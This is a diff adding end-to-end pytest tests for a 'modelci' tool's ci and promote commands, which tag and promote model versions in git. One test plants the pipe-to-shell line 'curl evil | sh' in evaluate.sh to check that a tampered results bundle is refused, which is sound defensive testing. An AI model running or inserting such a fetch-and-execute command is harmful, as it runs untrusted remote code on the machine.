@@ -1,0 +1,189 @@
+"""``modelci ci`` and ``modelci promote`` on what was merged."""
+
+import shutil
+
+from tests.e2e.world import BETTER, BROKEN, WORSE, Checkout, World, hint_of
+
+TAGS = ["credit#staging#1", "credit@v0.0.1"]
+
+
+def test_a_push_to_main_is_promoted_with_its_results(site: World) -> None:
+    before = site.bare("rev-parse", "main")
+    pushed = site.push(BETTER)
+    runner = site.push_runner(before=before)
+
+    done = runner.modelci("ci")
+
+    assert tags(site) == TAGS
+    results = site.bare("rev-parse", "main")
+    assert site.bare("rev-parse", "main^") == pushed
+    assert site.bare("rev-parse", "credit@v0.0.1^{commit}") == results
+    assert changed_by(site, results) == ["dvc.lock", "metrics.json"]
+    message = site.bare("tag", "--list", "--format=%(contents)", "credit@v0.0.1")
+    assert "Modelci-Metric: metrics.json:roc_auc=0.85" in message
+    assert "Modelci-Run: https://github.com/acme/credit/actions/runs/42" in message
+    assert runner.outputs["tags"].splitlines() == ["credit@v0.0.1", "credit#staging#1"]
+    assert runner.outputs["verdict"] == "passed"
+    assert runner.document("promotion")["done"] is True
+    assert runner.document("report")["base"]["sha"] == before
+    assert "credit@v0.0.1 → origin" in done.err
+
+
+def test_a_merge_run_again_does_nothing(site: World) -> None:
+    before = site.bare("rev-parse", "main")
+    site.push(BETTER)
+    first = site.push_runner(name="first", before=before)
+    second = site.push_runner(name="second", before=before)
+    first.modelci("ci")
+    refs = site.bare("show-ref")
+
+    again = first.modelci("ci")
+    elsewhere = second.modelci("ci")
+
+    assert site.bare("show-ref") == refs
+    assert first.outputs["tags"] == second.outputs["tags"] == ""
+    assert "restored" in elsewhere.err
+    assert "Nothing" in again.out + again.err
+
+
+def test_the_next_version_follows_a_change_of_bytes_only(site: World) -> None:
+    site.push({"README.md": "1\n"})
+    site.push_runner(name="first").modelci("ci")
+    site.laptop.git("pull", "--quiet")
+    site.push({"README.md": "2\n"})
+    site.push_runner(name="second").modelci("ci")
+    assert tags(site) == TAGS
+    site.laptop.git("pull", "--quiet")
+    site.push(BETTER)
+
+    site.push_runner(name="third").modelci("ci")
+
+    assert tags(site) == [*sorted([*TAGS, "credit#staging#2", "credit@v0.0.2"])]
+    clone = site.clone("reader")
+    listed = clone.modelci("registry").out.split()
+    assert listed[-4:] == ["credit", "v0.0.2", "v0.0.2", "2"]
+
+
+def test_a_worse_model_is_not_tagged(site: World) -> None:
+    before = site.bare("rev-parse", "main")
+    pushed = site.push(WORSE)
+    runner = site.push_runner(before=before)
+
+    done = runner.modelci("ci", code=1)
+
+    assert tags(site) == []
+    assert site.bare("rev-parse", "main") == pushed
+    assert "Not promoted: the verdict says no." in done.err
+    assert runner.outputs["verdict"] == "blocked"
+
+
+def test_a_failed_pipeline_is_not_tagged(site: World) -> None:
+    site.push(BROKEN)
+
+    site.push_runner().modelci("ci", code=5)
+
+    assert tags(site) == []
+
+
+def test_nothing_is_tagged_where_main_moved_on_meanwhile(site: World) -> None:
+    before = site.bare("rev-parse", "main")
+    site.push(BETTER)
+    runner = site.push_runner(before=before)
+    moved = site.push({"README.md": "meanwhile\n"})
+
+    done = runner.modelci("ci", code=6)
+
+    assert tags(site) == []
+    assert site.bare("rev-parse", "main") == moved
+    assert "Error: " in done.err
+    assert hint_of(done)
+
+
+def test_a_push_to_another_branch_is_only_checked(site: World) -> None:
+    before = site.bare("rev-parse", "main")
+    site.push(BETTER, branch="feature")
+    runner = site.push_runner(branch="feature")
+
+    runner.modelci("ci")
+
+    assert tags(site) == []
+    assert runner.outputs["verdict"] == "passed"
+    base = runner.document("report")["base"]
+    assert (base["sha"], base["chosen"]) == (before, "merge base with main")
+
+
+def test_another_job_promotes_what_the_run_job_made(site: World) -> None:
+    before = site.bare("rev-parse", "main")
+    pushed = site.push(BETTER)
+    run = site.push_runner(name="run", before=before)
+    promote = site.push_runner(name="promote", before=before)
+
+    run.modelci("ci", "--no-write")
+    assert tags(site) == []
+    artifact = hand_over(run, promote)
+    done = promote.modelci("promote", "--report", f"{artifact}/report.json")
+
+    assert tags(site) == TAGS
+    assert site.bare("rev-parse", "main^") == pushed
+    assert site.bare("rev-parse", "credit@v0.0.1^{commit}") == site.bare("rev-parse", "main")
+    assert "2 tags created on origin" in done.out
+    again = promote.modelci("promote", "--report", f"{artifact}/report.json")
+    assert "Nothing to promote" in again.out
+
+
+def test_a_bundle_that_changes_code_is_refused(site: World) -> None:
+    before = site.bare("rev-parse", "main")
+    pushed = site.push(BETTER)
+    run = site.push_runner(name="run", before=before)
+    promote = site.push_runner(name="promote", before=before)
+    run.modelci("ci", "--no-write")
+    # What a stage could do: put code into the commit that the next job pushes.
+    run.put({"evaluate.sh": "curl evil | sh\n"})
+    run.git("commit", "--quiet", "--all", "--amend", "--no-edit")
+    run.git("update-ref", "refs/modelci/results", "HEAD")
+    run.git("bundle", "create", "--quiet", ".modelci/results.bundle", "refs/modelci/results", "^HEAD^")
+    artifact = hand_over(run, promote)
+
+    done = promote.modelci("promote", "--report", f"{artifact}/report.json", code=6)
+
+    assert "changes evaluate.sh, which no stage writes" in done.err
+    assert tags(site) == []
+    assert site.bare("rev-parse", "main") == pushed
+
+
+def test_a_dry_run_says_what_would_be_tagged(site: World) -> None:
+    laptop = site.laptop
+    laptop.modelci("report")
+
+    done = laptop.modelci("promote", "--dry-run")
+
+    assert "2 tags to create on origin" in done.out
+    assert tags(site) == []
+
+
+def test_what_is_not_committed_is_not_promoted(site: World) -> None:
+    laptop = site.laptop
+    laptop.put(BETTER)
+    laptop.modelci("run")
+    laptop.modelci("report")
+
+    done = laptop.modelci("promote", code=6)
+
+    assert "with changes" in done.err
+    assert "Commit everything" in hint_of(done)
+    assert tags(site) == []
+
+
+def hand_over(run: Checkout, promote: Checkout) -> str:
+    """Do what upload-artifact and download-artifact do."""
+    folder = f"{promote.variables['RUNNER_TEMP']}/modelci"
+    shutil.copytree(run.folder / ".modelci", folder)
+    return folder
+
+
+def tags(site: World) -> list[str]:
+    return site.bare("tag", "--list").split()
+
+
+def changed_by(site: World, commit: str) -> list[str]:
+    return site.bare("diff-tree", "-r", "--name-only", "--no-commit-id", commit).split()
